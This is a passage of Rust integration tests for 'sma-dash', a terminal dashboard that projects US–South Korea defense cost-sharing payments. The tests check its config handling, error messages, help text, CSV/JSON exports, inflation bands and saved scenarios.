    assert!(out.lines().all(|l| l.chars().count() <= 80));
    assert!(out.contains("Honolulu"), "{out}");
    assert!(out.contains("Chang Won-sam"), "{out}");
    assert!(!out.contains('\x1b'), "plain text has no escapes");
    let o = sma_dash(&["render", "--width", "80", "--height", "24", "--ansi"]);
    assert!(stdout(&o).contains("\x1b[0;"), "--ansi keeps the colours");
}

#[test]
fn render_refuses_bad_sizes_and_keys() {
    for args in [
        &["render", "--width", "0"][..],
        &["render", "--height", "5000"],
        &["render", "--keys", "<nokey>"],
        &["render", "--keys", "<enter"],
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(
            stderr(&o).contains("invalid value"),
            "{args:?}: {}",
            stderr(&o)
        );
    }
}

#[test]
fn a_bad_config_is_refused_by_every_subcommand_at_its_line_and_column() {
    let cases = [
        (
            "[start\nfocus = 1\n",
            "1:7: TOML syntax: unclosed table, expected `]`",
        ),
        (
            "[start]\nfocus = \"costs\"\nzoom = true\n",
            "3:1: expected one of focus, metric,",
        ),
        (
            "[assumptions]\nkorean_cpi = 55\n",
            "2:14: expected Korean CPI inflation from -5.0 % to 20.0 %, found 55",
        ),
        (
            "[band]\nkorean_cpi = 12\n",
            "2:14: expected a spread of Korean CPI inflation from 0 to 10 percentage points, found 12",
        ),
        // What needs the dataset to check is checked by every subcommand too.
        (
            "[assumptions]\nkorean_cpi = \"2.5,2024=9\"\n",
            "2:14: expected a year from 2026 to 2035, found 2024, a recorded year (Korean CPI inflation is recorded through 2025)",
        ),
    ];
    for (text, expected) in cases {
        let (_dir, path) = config_file(text);
        for args in EVERY_SUBCOMMAND {
            let mut all = vec!["--config", path.as_str()];
            all.extend_from_slice(args);
            let o = sma_dash(&all);
            assert_eq!(o.status.code(), Some(2), "{args:?} {text}");
            assert!(o.stdout.is_empty(), "{args:?} {text}");
            let err = stderr(&o);
            assert!(
                err.starts_with(&format!(
                    "sma-dash: 1 problem in the configuration:\n{path}:{expected}"
                )),
                "{args:?}: {err}"
            );
            // The dashboard reads its config before it asks for a terminal.
            assert!(!err.contains("needs a terminal"), "{err}");
            assert!(!err.contains('\x1b'), "the terminal was not taken");
        }
    }
}

#[test]
fn a_config_file_named_and_missing_is_refused_by_every_subcommand() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing.toml");
    let shown = missing.display().to_string();
    for args in EVERY_SUBCOMMAND {
        let mut all = vec!["--config", shown.as_str()];
        all.extend_from_slice(args);
        let o = sma_dash(&all);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(
            stderr(&o),
            format!("sma-dash: --config {shown}: no such file\n"),
            "{args:?}"
        );
        let o = sma_dash_with(args, &[("SMA_DASH_CONFIG", &missing)]);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(
            stderr(&o),
            format!("sma-dash: $SMA_DASH_CONFIG {shown}: no such file\n"),
            "{args:?}"
        );
    }
    // The usual place may hold no file.
    let o = sma_dash_with(&["check"], &[("XDG_CONFIG_HOME", dir.path())]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

#[test]
fn without_a_terminal_the_dashboard_says_so_after_reading_its_config() {
    let o = sma_dash(&[]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        "sma-dash: the dashboard needs a terminal; `sma-dash check` prints a summary\n"
    );
}

#[test]
fn config_print_shows_the_user_file_over_the_defaults() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(
        &path,
        "[keys.anywhere]\nquit = [\"ctrl-q\"]\n[assumptions]\nkorean_cpi = 3.5\n",
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_sma-dash"))
        .args(["config", "--print"])
        .env("SMA_DASH_CONFIG", &path)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.contains("quit = [\"ctrl-q\"]"), "{out}");
    assert!(out.contains("korean_cpi = 3.5"), "{out}");
    assert!(out.contains("horizon = 2035"), "{out}");
    // The config steers the frame `render` draws: 3.5 % from the start.
    let o = Command::new(env!("CARGO_BIN_EXE_sma-dash"))
        .args(["render", "--width", "120", "--height", "40"])
        .env("SMA_DASH_CONFIG", &path)
        .output()
        .unwrap();
    assert!(stdout(&o).contains("3.5 %"), "{}", stdout(&o));
    // A named file that is not there is an error, not a silent default.
    let o = Command::new(env!("CARGO_BIN_EXE_sma-dash"))
        .args(["config", "--print"])
        .env("SMA_DASH_CONFIG", dir.path().join("missing.toml"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("missing.toml: no such file"));
}

#[test]
fn help_and_version_answer() {
    let o = sma_dash(&["--version"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).starts_with("sma-dash "));
    for sub in [
        &["--help"][..],
        &["project", "--help"],
        &["export", "--help"],
        &["render", "--help"],
        &["config", "--help"],
    ] {
        let o = sma_dash(sub);
        assert_eq!(o.status.code(), Some(0), "{sub:?}");
        assert!(stdout(&o).contains("Examples:"), "{sub:?}");
    }
}

#[test]
fn every_subcommand_starts_from_the_config_s_assumptions() {
    let (_dir, path) = config_file("[assumptions]\nkorean_cpi = 3\n");
    let config = ["--config", path.as_str()];
    let with_config = |args: &[&str]| {
        let mut all = args.to_vec();
        all.extend_from_slice(&config);
        let o = sma_dash(&all);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        stdout(&o)
    };
    // At 3 %: 1,519.2 × 1.021 (2025's recorded 2.1 %) × 1.03³ = 1,694.9 in 2030.
    let table = with_config(&["project"]);
    assert!(table.contains("assumptions: korean_cpi=3;"), "{table}");
    let y2030 = table.lines().find(|l| l.starts_with("2030")).unwrap();
    assert!(y2030.starts_with("2030   1,694.9"), "{y2030}");
    assert!(table.contains("total 2026–30   12th-sma"), "{table}");
    let total = table
        .lines()
        .find(|l| l.starts_with("total 2026–30   12th-sma"))
        .unwrap();
    assert!(
        total.ends_with(" 8,008.4  2026 recorded + 2027–30 projected"),
        "{total}"
    );
    // The dashboard's frame: the Assumptions pane, and the Costs pane at 2030.
    let frame = with_config(&["render", "--keys", "2llll"]);
    let cpi = frame
        .lines()
        .find(|l| l.contains("Korean CPI inflation"))
        .unwrap();
    assert!(cpi.contains(" 3.0 %"), "{cpi}");
    assert!(
        frame.contains("2030 ▸ 1,694.9 bn won · projected"),
        "{frame}"
    );
    assert!(frame.contains("8,008.4"), "{frame}");
    let csv = with_config(&["export", "projections"]);
    assert!(
        csv.contains("\n2030,12th-sma,projected,nominal,1694.9,computed,"),
        "{csv}"
    );
    assert!(csv.contains(",korean_cpi=3; "), "{csv}");
    let csv = with_config(&["export", "contributions"]);
    assert!(csv.contains(",korean_cpi=3; "), "{csv}");
    // Without the config, history's 2.1 % gives another figure.
    let o = sma_dash(&["project"]);
    assert!(!stdout(&o).contains("2030   1,694.9"), "{}", stdout(&o));
    // A flag over the config.
    let table = with_config(&["project", "--cpi", "2"]);
    assert!(table.contains("assumptions: korean_cpi=2;"), "{table}");
    // $SMA_DASH_CONFIG names a config as --config does.
    let o = sma_dash_with(&["project"], &[("SMA_DASH_CONFIG", Path::new(&path))]);
    assert!(
        stdout(&o).contains("assumptions: korean_cpi=3;"),
        "{}",
        stdout(&o)
    );
    // A rate with years set apart, as the config writes it.
    let (_dir, path) =
        config_file("[assumptions]\nkorean_cpi = \"2, 2027 = 7 %\"\nhorizon = 2030\n");
    let o = sma_dash(&["project", "--format", "csv", "--config", &path]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        stdout(&sma_dash(&[
            "project",
            "--format",
            "csv",
            "--cpi",
            "2,2027=7",
            "--horizon",
            "2030"
        ]))
    );
}

#[test]
fn years_set_apart_must_be_projected_and_given_once() {
    let cases = [
        (
            "2.5,2024=9",
            "expected a year from 2026 to 2035, found 2024, a recorded year (Korean CPI inflation is recorded through 2025)",
        ),
        (
            "2.5,2040=9",
            "expected a year from 2026 to 2035, found 2040, past the horizon 2035",
        ),
        ("2.5,2028=9,2028=3", "2028 is given twice"),
    ];
    for (rate, expected) in cases {
        let o = sma_dash(&["project", "--cpi", rate]);
        assert_eq!(o.status.code(), Some(2), "{rate}");
        assert_eq!(stderr(&o), format!("sma-dash: --cpi: {expected}\n"));
        let (_dir, path) = config_file(&format!("[assumptions]\nkorean_cpi = \"{rate}\"\n"));
        let o = sma_dash(&["project", "--config", &path]);
        assert_eq!(o.status.code(), Some(2), "{rate}");
        assert_eq!(
            stderr(&o),
            format!("sma-dash: 1 problem in the configuration:\n{path}:2:14: {expected}\n")
        );
    }
    // Each rate has its own record: defense budgets are recorded through 2026.
    let o = sma_dash(&["project", "--defense-growth", "5,2026=6"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("found 2026, a recorded year"),
        "{}",
        stderr(&o)
    );
    // The horizon is applied first, wherever it is written.
    let o = sma_dash(&["project", "--cpi", "2.5,2040=9", "--horizon", "2040"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = sma_dash(&["project", "--horizon", "2036", "--cpi", "2.5,2040=9"]);
    assert_eq!(
        stderr(&o),
        "sma-dash: --cpi: expected a year from 2026 to 2036, found 2040, past the horizon 2036\n"
    );
}

#[test]
fn options_that_mean_nothing_to_a_series_are_refused() {
    for (args, expected) in [
        (
            &["export", "troops", "--usd"][..],
            "export troops: --usd does not apply to troop counts (only to contributions and projections)",
        ),
        (
            &["export", "events", "--real", "2020"],
            "export events: --real does not apply to events (only to contributions, projections and measures)",
        ),
        (
            &["export", "shares", "--real", "2020"],
            "export shares: --real does not apply to the share estimates (only to contributions, projections and measures)",
        ),
        (
            &["export", "measures", "--cpi", "3"],
            "export measures: --cpi does not apply to the comparable measures (only to contributions and projections)",
        ),
        (
            &["export", "events", "--cpi", "3"],
            "export events: --cpi does not apply to events (only to contributions and projections)",
        ),
        (
            &["export", "agreements", "--horizon", "2040"],
            "export agreements: --horizon does not apply to agreements (only to contributions, projections and measures)",
        ),
        (
            &["export", "economy", "--fx", "1400"],
            "export economy: --fx does not apply to the economic series (only to contributions and projections)",
        ),
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(stderr(&o), format!("sma-dash: {expected}\n"), "{args:?}");
    }
    for args in [
        &[
            "export",
            "contributions",
            "--usd",
            "--real",
            "2020",
            "--cpi",
            "3",
        ][..],
        &[
            "export",
            "projections",
            "--usd",
            "--real",
            "2020",
            "--growth",
            "4",
        ],
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
    }
}

#[test]
fn options_before_a_subcommand_are_refused_not_dropped() {
    for (args, expected) in [
        (
            &["--cpi", "3", "project"][..],
            "--cpi before `project` is not read: put it after the subcommand, as in `sma-dash project --cpi 3`",
        ),
        (
            &["--horizon", "2040", "export", "projections"],
            "--horizon before `export` is not read: put it after the subcommand, as in `sma-dash export --horizon 2040`",
        ),
        (
            &["--cpi", "3", "check"],
            "--cpi does not apply to `check` (only to the dashboard, render, project, export and chart)",
        ),
        (
            &["--mouse", "render"],
            "--mouse is the dashboard's option; `render` does not take it",
        ),
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(stderr(&o), format!("sma-dash: {expected}\n"), "{args:?}");
    }
    // --data and --config go anywhere.
    let o = sma_dash(&["--config", "/nonexistent/c.toml", "check"]);
    assert_eq!(
        stderr(&o),
        "sma-dash: --config /nonexistent/c.toml: no such file\n"
    );
}

#[test]
fn every_rate_reads_negative_values_and_percent_signs_alike() {
    let o = sma_dash(&["project", "--fx", "-3"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        "sma-dash: --fx: expected won per dollar from 500 ₩/$ to 3,000 ₩/$, found -3\n"
    );
    for flag in ["--cpi", "--us-cpi", "--defense-growth", "--growth"] {
        let o = sma_dash(&["project", flag, "-3"]);
        assert_eq!(o.status.code(), Some(0), "{flag}: {}", stderr(&o));
        let o = sma_dash(&["project", flag, "-30"]);
        assert_eq!(o.status.code(), Some(2), "{flag}");
        assert!(
            stderr(&o).starts_with(&format!("sma-dash: {flag}: expected ")),
            "{flag}: {}",
            stderr(&o)
        );
        assert!(stderr(&o).ends_with(", found -30\n"), "{}", stderr(&o));
    }
    let o = sma_dash(&["project", "--horizon", "-3"]);
    assert_eq!(
        stderr(&o),
        "sma-dash: --horizon: expected a horizon from 2027 to 2100, found -3\n"
    );
    let percent = sma_dash(&["project", "--format", "csv", "--cpi", "3%"]);
    assert_eq!(percent.status.code(), Some(0), "{}", stderr(&percent));
    let spaced = sma_dash(&["project", "--format", "csv", "--cpi", "3 %"]);
    let plain = sma_dash(&["project", "--format", "csv", "--cpi", "3"]);
    let other = sma_dash(&["project", "--format", "csv", "--cpi", "4"]);
    assert_eq!(stdout(&percent), stdout(&plain));
    assert_eq!(stdout(&spaced), stdout(&plain));
    assert_ne!(stdout(&other), stdout(&plain));
}

#[test]
fn every_error_is_in_one_voice() {
    for args in [
        &["bogus"][..],
        &["project", "--bogus"],
        &["project", "--cpi"],
        &["project", "--cpi", "x"],
        &["project", "--format", "xml"],
        &["export"],
        &["export", "nothing"],
        &["render", "--width", "0"],
        &["render", "--keys", "<nokey>"],
        &["check", "--data", "/nonexistent"],
        &["check", "--config", "/nonexistent.toml"],
        &[],
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let err = stderr(&o);
        assert!(err.starts_with("sma-dash: "), "{args:?}: {err}");
        assert!(!err.contains("error:"), "{args:?}: {err}");
    }
    // clap's usage hint is kept.
    let o = sma_dash(&["project", "--bogus"]);
    assert!(
        stderr(&o).contains("\nUsage: sma-dash project [OPTIONS]"),
        "{}",
        stderr(&o)
    );
    let o = sma_dash(&["render", "--width", "0"]);
    assert!(
        stderr(&o).starts_with(
            "sma-dash: invalid value '0' for '--width <WIDTH>': expected a width as a whole number from 1 to 1000"
        ),
        "{}",
        stderr(&o)
    );
}

#[test]
fn help_opens_with_what_the_program_is_and_describes_every_option() {
    let o = sma_dash(&["--help"]);
    assert_eq!(o.status.code(), Some(0));
    let help = stdout(&o);
    assert!(
        help.starts_with("sma-dash follows the US–South Korea defense cost-sharing negotiations"),
        "{help}"
    );
    assert!(
        help.contains("the options given, over the config\nfile's [assumptions], over defaults"),
        "{help}"
    );
    let o = sma_dash(&["-h"]);
    assert!(
        stdout(&o).starts_with("Follow the US–South Korea defense cost-sharing agreements"),
        "{}",
        stdout(&o)
    );
    // `help SUBCOMMAND` is `SUBCOMMAND --help`.
    for sub in ["check", "render", "project", "export", "config"] {
        let help = sma_dash(&["help", sub]);
        assert_eq!(help.status.code(), Some(0), "{sub}");
        assert_eq!(stdout(&help), stdout(&sma_dash(&[sub, "--help"])), "{sub}");
    }
    assert!(stdout(&sma_dash(&["help", "project"])).contains("--real <BASE_YEAR>"));
    // In the short help each option sits on one line with its description.
    for args in [
        &["-h"][..],
        &["check", "-h"],
        &["render", "-h"],
        &["project", "-h"],
        &["export", "-h"],
        &["config", "-h"],
    ] {
        let help = stdout(&sma_dash(args));
        let options: Vec<&str> = help
            .lines()
            .filter(|l| l.trim_start().starts_with('-'))
            .collect();
        assert!(options.len() >= 2, "{args:?}: {help}");
        for line in options {
            let (_, description) = line
                .trim_start()
                .split_once("  ")
                .unwrap_or_else(|| panic!("{args:?}: no description: {line}"));
            assert!(!description.trim().is_empty(), "{args:?}: {line}");
            assert!(
                !description.trim_start().starts_with('['),
                "{args:?}: only a default: {line}"
            );
        }
    }
    // Sections in order: the subcommand's own options, the assumptions, then the inputs.
    let help = stdout(&sma_dash(&["project", "-h"]));
    let at = |s: &str| help.find(s).unwrap_or_else(|| panic!("{s}: {help}"));
    assert!(at("--real") < at("Assumptions") && at("Assumptions") < at("--cpi"));
    assert!(at("--cpi") < at("--horizon") && at("--horizon") < at("--data"));
}

#[test]
fn project_band_shows_each_amount_between_its_low_and_high_path() {
    let o = sma_dash(&["project", "--band", "--cpi", "2", "--horizon", "2030"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains(
            "\nband: Korean CPI inflation ±1 pp, US CPI-U inflation ±1 pp, won per dollar ±10 %, ROK defense-budget growth ±2 pp;"
        ),
        "{out}"
    );
    // 1,519.2 × 1.021 × 1.02³ = 1,646.0, between the paths at 1 % (1,598.1) and at
    // 3 % (× 1.03³ = 1,694.9).
    let y2030 = out.lines().find(|l| l.starts_with("2030")).unwrap();
    assert!(
        y2030.starts_with("2030  1,646.0 (1,598.1–1,694.9)"),
        "{y2030}"
    );
    let total = out
        .lines()
        .find(|l| l.starts_with("total 2026–30   12th-sma"))
        .unwrap();
    assert!(
        total.ends_with(" 7,912.2 (7,817.3–8,008.4)  2026 recorded + 2027–30 projected"),
        "{total}"
    );
    // Without --band, no band.
    let plain = stdout(&sma_dash(&["project", "--cpi", "2", "--horizon", "2030"]));
    assert!(
        !plain.contains("band") && !plain.contains("1,598.1"),
        "{plain}"
    );
}

#[test]
fn project_band_csv_and_json_carry_the_lows_the_highs_and_the_spreads() {
    let args = [
        "project",
        "--band",
        "--usd",
        "--cpi",
        "2",
        "--fx",
        "1400",
        "--horizon",
        "2030",
    ];
    let mut csv_args = args.to_vec();
    csv_args.extend(["--format", "csv"]);
    let o = sma_dash(&csv_args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(
        out.lines().next(),
        Some(
            "year,scenario,status,basis,krw_bn,krw_bn_low,krw_bn_high,krw_origin,usd_m,usd_m_low,usd_m_high,usd_origin,krw_per_usd,rate,capped,rule_extended,driver,sources,span,dataset_version,assumptions,band"
        )
    );
    let rows = csv_rows(&out);
    assert_eq!(rows.len(), 5 * 5 + 5);
    let r = find(&rows, &[("year", "2030"), ("scenario", "12th-sma")]);
    assert_eq!(
        (
            r["krw_bn_low"].as_str(),
            r["krw_bn"].as_str(),
            r["krw_bn_high"].as_str()
        ),
        ("1598.1", "1646.0", "1694.9")
    );
    // In dollars the low is the low inflation at the high rate: 1,598.1 bn won at
    // 1,540 won per dollar; the high 1,694.9 at 1,260.
    assert_eq!(
        (r["usd_m_low"].as_str(), r["usd_m_high"].as_str()),
        ("1037.7", "1345.2")
    );
    assert_eq!(
        r["band"],
        "korean_cpi ±1 pp; us_cpi ±1 pp; krw_per_usd ±10 %; defense_growth ±2 pp"
    );
    // $5 bn at 1,400 ± 10 % won per dollar; in dollars a demand has no band.
    let d = find(&rows, &[("year", "2030"), ("scenario", "demand-5bn")]);
    assert_eq!(
        (
            d["krw_bn_low"].as_str(),
            d["krw_bn"].as_str(),
            d["krw_bn_high"].as_str(),
            d["usd_m_low"].as_str(),
            d["usd_m_high"].as_str()
        ),
        ("6300.0", "7000.0", "7700.0", "5000.0", "5000.0")
    );
    // The recorded start is pinned.
    let start = find(&rows, &[("year", "2026"), ("scenario", "11th-rule")]);
    assert_eq!(start["krw_bn_low"], start["krw_bn_high"]);
    assert_eq!(start["krw_bn_low"], start["krw_bn"]);

    let mut json_args = args.to_vec();
    json_args.extend(["--format", "json"]);
    let o = sma_dash(&json_args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        v["band"],
        serde_json::json!([
            { "name": "korean_cpi", "spread": 1.0, "unit": "pp" },
            { "name": "us_cpi", "spread": 1.0, "unit": "pp" },
            { "name": "krw_per_usd", "spread": 10.0, "unit": "%" },
            { "name": "defense_growth", "spread": 2.0, "unit": "pp" },
        ])
    );
    let row = v["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["year"] == 2030 && r["scenario"] == "12th-sma")
        .unwrap();
    let at = |k: &str| row[k].as_f64().unwrap();
    assert!(at("krw_bn_low") < at("krw_bn") && at("krw_bn") < at("krw_bn_high"));
    assert!(at("usd_m_low") < at("usd_m") && at("usd_m") < at("usd_m_high"));
    let total = &v["totals"][0];
    assert_eq!(total["scenario"], "12th-sma");
    for key in ["krw_bn_low", "krw_bn_high", "usd_m_low", "usd_m_high"] {
        assert!(total[key].is_number(), "{key}: {total}");
    }
}

#[test]
fn export_projections_band_writes_what_project_prints() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.csv");
    let file = path.to_str().unwrap();
    let o = sma_dash(&[
        "export",
        "projections",
        "--band",
        "--band-fx",
        "5",
        "--real",
        "2025",
        "-o",
        file,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let written = std::fs::read_to_string(&path).unwrap();
    let printed = sma_dash(&[
        "project",
        "--band",
        "--band-fx",
        "5",
        "--real",
        "2025",
        "--format",
        "csv",
    ]);
    assert_eq!(written, stdout(&printed));
    assert!(written.starts_with(
        "year,scenario,status,basis,base_year,deflator,krw_bn,krw_bn_low,krw_bn_high,"
    ));
    assert!(written.contains("; krw_per_usd ±5 %; "), "{written}");
    let o = sma_dash(&["export", "projections", "--band", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let first = &v[0];
    assert!(first["krw_bn_low"].is_number(), "{first}");
    assert_eq!(
        first["band"],
        "korean_cpi ±1 pp; us_cpi ±1 pp; krw_per_usd ±10 %; defense_growth ±2 pp"
    );
}

#[test]
fn the_band_s_spreads_come_from_options_over_config_over_defaults() {
    let high_2030 = |args: &[&str], config: Option<&str>| {
        let mut all = vec![
            "project",
            "--band",
            "--format",
            "csv",
            "--cpi",
            "2",
            "--horizon",
            "2030",
        ];
        all.extend_from_slice(args);
        if let Some(path) = config {
            all.extend(["--config", path]);
        }
        let o = sma_dash(&all);
        assert_eq!(o.status.code(), Some(0), "{all:?}: {}", stderr(&o));
        let rows = csv_rows(&stdout(&o));
        let r = find(&rows, &[("year", "2030"), ("scenario", "12th-sma")]);
        (r["krw_bn_high"].clone(), r["band"].clone())
    };
    assert_eq!(high_2030(&[], None).0, "1694.9");
    // ±2 points from the config: the high path at 4 %, 1,519.2 × 1.021 × 1.04³ = 1,744.8.
    let (_dir, path) = config_file("[band]\nkorean_cpi = 2\n");
    let (high, band) = high_2030(&[], Some(&path));
    assert_eq!(high, "1744.8");
    assert!(
        band.starts_with("korean_cpi ±2 pp; us_cpi ±1 pp;"),
        "{band}"
    );
    // An option over the config.
    assert_eq!(high_2030(&["--band-cpi", "1"], Some(&path)).0, "1694.9");
    assert_eq!(high_2030(&["--band-cpi", "0"], None).0, "1646.0");
    // config --print shows the [band] in effect.
    let o = sma_dash(&["config", "--print", "--config", &path]);
    assert!(
        stdout(&o).contains("[band]\nkorean_cpi = 2  # ± percentage points\nus_cpi = 1 "),
        "{}",
        stdout(&o)
    );
    // The dashboard's frame takes the spreads too.
    let o = sma_dash(&["render", "--band-cpi", "2", "--band-fx", "20"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

#[test]
fn bad_spreads_and_band_options_where_they_mean_nothing_exit_2() {
    for (args, expected) in [
        (
            &["project", "--band", "--band-cpi", "12"][..],
            "--band-cpi: expected a spread of Korean CPI inflation from 0 to 10 percentage points, found 12",
        ),
        (
            &["project", "--band", "--band-fx", "-5"],
            "--band-fx: expected a spread of won per dollar from 0 to 50 %, found -5",
        ),
        (
            &["render", "--band-defense", "x"],
            "--band-defense: expected a spread in percentage points as a number, found \"x\"",
        ),
        (
            &["project", "--band-us-cpi", "2"],
            "--band-us-cpi sets the band's spread, which only --band shows: add --band",
        ),
        (
            &["export", "projections", "--band-cpi", "2"],
            "--band-cpi sets the band's spread, which only --band shows: add --band",
        ),
        (
            &["export", "troops", "--band"],
            "export troops: --band does not apply to troop counts (only to projections)",
        ),
        (
            &["export", "events", "--band-cpi", "2"],
            "export events: --band-cpi does not apply to events (only to projections)",
        ),
        (
            &["export", "contributions", "--band"],
            "export contributions: --band does not apply to contributions (only to projections)",
        ),
        (
            &["--band-fx", "5", "project"],
            "--band-fx before `project` is not read: put it after the subcommand, as in `sma-dash project --band-fx 5`",
        ),
        (
            &["--band-cpi", "2", "check"],
            "--band-cpi does not apply to `check` (only to the dashboard, render, project, export and chart)",
        ),
    ] {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(o.stdout.is_empty(), "{args:?}");
        assert_eq!(stderr(&o), format!("sma-dash: {expected}\n"), "{args:?}");
    }
    // `check` and `config` take no --band.
    for sub in ["check", "config"] {
        let o = sma_dash(&[sub, "--band"]);
        assert_eq!(o.status.code(), Some(2), "{sub}");
    }
}

#[test]
fn scenario_starts_the_dashboard_and_render_on_a_key_or_a_saved_name() {
    // A key pins the scenario: the Costs title names it.
    let o = sma_dash(&[
        "render",
        "--width",
        "120",
        "--height",
        "40",
        "--scenario",
        "demand-5bn",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("2 Costs  contribution · demand-5bn"),
        "{}",
        stdout(&o)
    );
    // A saved scenario's name applies its assumptions.
    let data = tempfile::tempdir().unwrap();
    let dir = data.path().join("sma-dash");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("scenarios.toml"),
        "[[scenario]]\nname = \"hot\"\nsaved = \"2026-11-27T10:00:00Z\"\nkorean_cpi = 4.5\nus_cpi = 2.63\nkrw_per_usd = 1421.4\ndefense_growth = 7.5\ncustom_growth = 4.9\nbase_year = 2025\nhorizon = 2035\n",
    )
    .unwrap();
    let with_data = |args: &[&str]| sma_dash_with(args, &[("XDG_DATA_HOME", data.path())]);
    let o = with_data(&["render", "--scenario", "hot"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let cpi = stdout(&o)
        .lines()
        .find(|l| l.contains("Korean CPI inflation"))
        .unwrap()
        .to_string();
    assert!(cpi.contains(" 4.5 %"), "{cpi}");
    // An unknown name lists what is known, and exits 2.
    let o = with_data(&["render", "--scenario", "cold"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: --scenario: expected one of 12th-sma, 11th-rule, demand-5bn, demand-10bn, custom or a saved scenario: \"hot\", found \"cold\""
    );
    // Before a subcommand it is refused.
    let o = sma_dash(&["--scenario", "custom", "project"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("--scenario is the dashboard's option"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_saved_scenario_gives_project_and_export_the_same_file_as_its_options() {
    let data = tempfile::tempdir().unwrap();
    let dir = data.path().join("sma-dash");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("scenarios.toml"),
        "[[scenario]]\nname = \"hot\"\nsaved = \"2026-11-27T10:00:00Z\"\nkorean_cpi = 4.5\nus_cpi = 2.63\nkrw_per_usd = 1421.4\ndefense_growth = 7.5\ncustom_growth = 4.9\nbase_year = 2025\nhorizon = 2035\n",
    )
    .unwrap();
    let with_data = |args: &[&str]| sma_dash_with(args, &[("XDG_DATA_HOME", data.path())]);
    let spelt_out = [
        "--cpi",
        "4.5",
        "--us-cpi",
        "2.63",
        "--fx",
        "1421.4",
        "--defense-growth",
        "7.5",
        "--growth",
        "4.9",
        "--horizon",
        "2035",
    ];
    let ok = |o: Output| {
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        stdout(&o)
    };
    for command in [
        &["project", "--format", "csv"][..],
        &["export", "projections"],
        &["export", "contributions", "--real", "2030"],
    ] {
        let saved = ok(with_data(&[command, &["--scenario", "hot"]].concat()));
        let options = ok(sma_dash(&[command, &spelt_out[..]].concat()));
        assert_eq!(saved, options, "{command:?}");
        assert_ne!(
            saved,
            ok(sma_dash(command)),
            "{command:?}: the scenario applies"
        );
    }
    // Options given with it apply over the saved scenario.
    let over = ok(with_data(&["project", "--scenario", "hot", "--cpi", "2"]));
    let mut options = spelt_out.to_vec();
    options[1] = "2";
    assert_eq!(over, ok(sma_dash(&[&["project"], &options[..]].concat())));
    // A built-in scenario is already there; a series the assumptions do not shape takes
    // none; an unknown name lists the saved ones.
    let o = sma_dash(&["project", "--scenario", "custom"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: --scenario custom: `project` gives every built-in scenario already; here --scenario names a saved scenario"
    );
    let o = with_data(&["export", "events", "--scenario", "hot"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: export events: --scenario does not apply to events (only to contributions and projections)"
    );
    let o = with_data(&["export", "projections", "--scenario", "cold"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("a saved scenario: \"hot\", found \"cold\""),
        "{}",
        stderr(&o)
    );
}

#[test]
fn the_screen_shows_published_figures_and_labels_converted_ones() {
    let frame = |keys: &str| {
        let o = sma_dash(&["render", "--width", "120", "--height", "40", "--keys", keys]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        stdout(&o)
    };
    // In dollars, 2014 (agreed in won) is converted like every won year; the $866.86 m
    // a source printed is in the detail, reported beside, never the point.
    let y2014 = frame("2u:2014<enter>");
    assert!(
        y2014.contains("2014 ▸ $874.3 m · converted · confirmed"),
        "{y2014}"
    );
    assert!(
        y2014.contains("converted at 1,052.3 ₩/$ (2014 average) from 920.0 bn won as published"),
        "{y2014}"
    );
    let detail = frame("2u:2014<enter><enter>");
    assert!(detail.contains("$866.86 m reported (R09 R08)"), "{detail}");
